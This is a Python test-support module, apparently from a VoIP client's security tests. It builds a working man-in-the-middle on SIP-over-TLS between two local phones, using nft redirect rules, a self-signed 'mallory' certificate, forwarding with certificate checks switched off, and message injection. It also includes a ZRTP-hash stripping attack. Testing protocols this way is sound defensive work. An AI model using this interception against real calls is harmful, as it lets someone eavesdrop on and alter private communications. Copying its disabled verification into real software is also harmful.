"""Somebody on the signalling between two phones without a server: reads and alters their SIP.

No server vouches for a direct call, so that TLS hides it from onlookers and not from who can
stand in its way. Here nft turns both phones' connections aside to two doors with a certificate
that vouches for nothing, and what comes in there goes on to where it was meant to go.
"""

import asyncio
import contextlib
import re
import socket
import ssl
import subprocess
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Final

from support.certificates import self_signed
from support.couple import CALLEE, CALLER, Couple

_MARK: Final = 7
_ASIDE: Final = 10_000
_PORTS: Final = (CALLER.sip_port, CALLEE.sip_port)


@dataclass(frozen=True, slots=True)
class SipMessage:
    """One message on its way.

    Attributes:
        to_callee: Whether it goes to the phone that is called.
        head: All before the empty line, with its line ends.
        body: The SDP, if any.
    """

    to_callee: bool
    head: str
    body: str

    def encode(self) -> bytes:
        """As it goes over the wire, with the length that fits."""
        length = f"Content-Length: {len(self.body)}"
        return (
            f"{re.sub(r'Content-Length: *[0-9]+', length, self.head)}\r\n\r\n{self.body}".encode()
        )

    def header(self, name: str) -> str:
        """The value of a header; empty if there is none."""
        found = re.search(rf"^{name}: *(.*?)\r?$", self.head, re.MULTILINE)
        return found[1] if found else ""


Alter = Callable[[SipMessage], SipMessage | None]
"""From a message to what arrives in its place; None: nothing does."""


def unaltered(message: SipMessage) -> SipMessage | None:
    """Nothing happens."""
    return message


def hash_stripped(message: SipMessage) -> SipMessage | None:
    """The SDP no longer announces ZRTP (attack XS02)."""
    return replace(message, body=re.sub(r"a=zrtp-hash:[^\r]*\r\n", "", message.body))


class Signalling:
    """Made by `tapping`; carries messages while its loop runs.

    Attributes:
        alter: What is done to each message.
        seen: All messages as they were sent, in order.
    """

    def __init__(self) -> None:
        self.alter: Alter = unaltered
        self.seen: list[SipMessage] = []
        self._writers: dict[bool, asyncio.StreamWriter] = {}
        self._doors: list[asyncio.Server] = []
        self._carrying: set[asyncio.Task[None]] = set()

    async def open(self, context: ssl.SSLContext) -> None:
        """Makes the doors to which the phones are turned aside."""
        for port in _PORTS:
            self._doors.append(
                await asyncio.start_server(
                    self._welcome(port), "127.0.0.1", port + _ASIDE, ssl=context
                )
            )

    async def close(self) -> None:
        """Lets go of all connections."""
        for door in self._doors:
            door.close()
        carrying = tuple(self._carrying)
        for task in carrying:
            task.cancel()
        await asyncio.gather(*carrying, return_exceptions=True)

    def inject(self, message: SipMessage) -> None:
        """Sends a message that nobody has written, on the connection used last."""
        self._writers[message.to_callee].write(message.encode())

    def _welcome(
        self, port: int
    ) -> Callable[[asyncio.StreamReader, asyncio.StreamWriter], Coroutine[Any, Any, None]]:
        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            there, onward = await asyncio.open_connection(
                sock=_connected(port), ssl=_careless(), server_hostname="127.0.0.1"
            )
            to_callee = port == CALLEE.sip_port
            self._carry(reader, onward, to_callee=to_callee)
            self._carry(there, writer, to_callee=not to_callee)

        return serve

    def _carry(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, to_callee: bool
    ) -> None:
        self._writers[to_callee] = writer
        task = asyncio.create_task(self._carry_on(reader, writer, to_callee=to_callee))
        self._carrying.add(task)
        task.add_done_callback(self._carrying.discard)

    async def _carry_on(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, to_callee: bool
    ) -> None:
        with contextlib.closing(writer), contextlib.suppress(asyncio.IncompleteReadError, OSError):
            while True:
                message = await _read(reader, to_callee=to_callee)
                self.seen.append(message)
                altered = self.alter(message)
                if altered is not None:
                    writer.write(altered.encode())


async def _read(reader: asyncio.StreamReader, *, to_callee: bool) -> SipMessage:
    head = ""
    while not head:  # an empty line keeps the connection open
        head = (await reader.readuntil(b"\r\n\r\n")).decode().strip("\r\n")
    length = re.search(r"Content-Length: *(\d+)", head)
    body = await reader.readexactly(int(length[1]) if length else 0)
    return SipMessage(to_callee, head, body.decode())


def _connected(port: int) -> socket.socket:
    """A connection that is not turned aside."""
    plain = socket.socket()
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, _MARK)
    plain.connect(("127.0.0.1", port))
    plain.setblocking(False)  # noqa: FBT003 - the library's own way
    return plain


def _careless() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


@contextlib.contextmanager
def tapping(both: Couple, folder: Path) -> Iterator[Signalling]:
    """Stands in the way of all SIP between two phones, in a network of one's own.

    Args:
        both: The phones; their loop carries the messages.
        folder: Where the certificate goes.
    """
    tap = Signalling()
    identity = self_signed(folder, "mallory.example.net")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(identity.certificate, identity.private_key)
    both.run(tap.open(context))
    rules = "".join(
        f"meta mark != {_MARK} tcp dport {port} redirect to :{port + _ASIDE}\n" for port in _PORTS
    )
    table = f"""
    table inet signalling {{
        chain out {{
            type nat hook output priority -100;
            {rules}
        }}
    }}"""
    subprocess.run(["nft", "-f", "-"], input=table.encode(), check=True)
    try:
        yield tap
    finally:
        subprocess.run(["nft", "delete", "table", "inet", "signalling"], check=True)
        both.run(tap.close())
